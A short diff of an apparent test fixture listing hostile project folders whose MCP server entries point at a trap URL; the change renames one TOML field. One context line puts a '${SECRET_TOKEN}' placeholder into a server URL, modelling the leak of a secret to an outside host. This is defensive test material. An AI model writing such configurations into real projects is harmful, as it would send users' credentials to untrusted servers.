@@ -131,7 +131,7 @@ export const HOSTILE_FOLDERS: Readonly<Record<string, HostileFolder>> = {
     servers: (trap) => ({ h18: { url: http(trap, '${SECRET_TOKEN}') } }),
   },
   'a server of the newer protocol version': {
-    toml: (trap) => `[mcp.servers.h19]\nurl = "${http(trap)}"\nera = "modern"\n`,
+    toml: (trap) => `[mcp.servers.h19]\nurl = "${http(trap)}"\nprotocol_version = "2026-07-28"\n`,
   },
   'a server whose tools run unattended': {
     toml: (trap) =>
